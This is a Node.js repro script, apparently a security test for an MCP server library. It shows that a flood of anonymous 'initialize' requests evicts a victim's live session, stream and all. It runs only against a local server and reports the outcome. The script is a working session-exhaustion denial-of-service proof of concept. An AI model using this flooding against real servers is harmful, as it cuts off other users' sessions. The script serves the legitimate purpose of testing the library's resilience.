// An anonymous client floods initialize: the sessions table (max sessions) ends the least recently
// used session to make room, even one with its GET stream open or a call under way.
//   node repro/mcp-hostile2/session-eviction.mjs [max]
import { mcpSessions } from "../../dist/esm/mcp.js";
import { initialize, makeMcp, serve, sleep } from "./common.mjs";

const MAX = Number(process.argv[2] ?? 1000);
const { server, port } = await serve(makeMcp(), { sessions: mcpSessions({ max: MAX }) });
const url = `http://127.0.0.1:${port}/mcp`;
const init = () => initialize(url);
const victim = await init();
const stream = await fetch(url, { headers: { Accept: "text/event-stream", "Mcp-Session-Id": victim } });
const reader = stream.body.getReader();
await reader.read(); // the primer
let streamEnded = false;
void (async () => {
  for (;;) if ((await reader.read()).done) return void (streamEnded = true);
})();
const t0 = Date.now();
for (let i = 0; i < MAX; i += 1) await init();
await sleep(100);
const after = await fetch(url, {
  method: "POST",
  headers: {
    "Content-Type": "application/json",
    Accept: "application/json, text/event-stream",
    "Mcp-Session-Id": victim,
  },
  body: JSON.stringify({ jsonrpc: "2.0", id: 2, method: "ping" }),
});
console.log(
  JSON.stringify({
    max: MAX,
    attackerInitializes: MAX,
    attackMs: Date.now() - t0,
    victimStreamEnded: streamEnded,
    victimNextRequest: `${after.status} ${await after.text()}`,
  }),
);
server.close();
process.exit(0);
